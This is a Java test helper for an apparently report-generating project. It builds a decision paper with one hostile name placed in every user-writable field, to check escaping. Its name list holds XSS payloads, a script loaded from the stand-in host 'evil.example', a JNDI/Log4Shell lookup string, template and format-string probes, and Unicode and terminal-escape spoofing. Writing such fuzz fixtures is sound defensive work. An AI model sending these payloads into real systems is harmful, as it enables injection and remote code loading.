package io.ampacity.reports;

import io.ampacity.reports.paper.Paper;
import io.ampacity.scenario.Plan;
import java.util.List;

/** Names that want to be more than names. */
public final class Hostile {

    public static final List<String> NAMES = List.of(
            "<script>alert(1)</script>",
            "\"onmouseover=\"alert(1)",
            "'><img src=x onerror=alert(1)>",
            "</title><script src=\"https://evil.example/x.js\"></script>",
            "]]></style><!--",
            "&lt;b&gt; &amp; &#60;",
            "\u202Egnol.exe\u2066abc",
            "\u001B[31mred\u001B]0;owned\u0007\r\nsecond line",
            "\u0000\u0008\uFEFF\uD800 lone",
            "👩‍🚀🚀 数据中心 مركز",
            "| a | b |\n|---|---|",
            "`code` **bold** [x](javascript:alert(1)) ![i](http://evil.example/i.png)",
            "x".repeat(10_000),
            "${jndi:ldap://evil.example/a} {{7*7}} %s %n",
            "");

    private Hostile() {}

    /** The example with one name put wherever a stranger may write. */
    public static Paper paper(String name) {
        Plan plan = Example.plan();
        Plan renamed = new Plan(
                1,
                name,
                name,
                plan.status(),
                plan.objectiveUsd(),
                plan.boundUsd(),
                plan.gap(),
                plan.periods().stream().map(period -> period + name).toList(),
                plan.capacity().stream()
                        .map(one -> new Plan.Capacity(
                                one.period(),
                                one.site() + name,
                                one.supplier() + name,
                                one.chip() + name,
                                one.contract() + name,
                                one.count(),
                                one.added(),
                                one.costUsd()))
                        .toList(),
                plan.placement().stream()
                        .map(one -> new Plan.Placement(
                                one.period(),
                                one.workload() + name,
                                one.site() + name,
                                one.supplier() + name,
                                one.chip() + name,
                                one.deployment(),
                                one.replicas(),
                                one.chips(),
                                one.requestsPerSecond(),
                                one.peakRequestsPerSecond(),
                                one.capacityRequestsPerSecond(),
                                one.share(),
                                one.tokens()))
                        .toList(),
                plan.totals(),
                List.of(new Plan.BindingLimit(name, 1, 12, name, name)),
                List.of(),
                List.of(name));
        Annex annex = new Annex(name, List.of(new Annex.Alternative(name, 1, name)), List.of());
        return DecisionPaper.of(Example.scenario(name, name), renamed, Example.proof(), annex);
    }
}
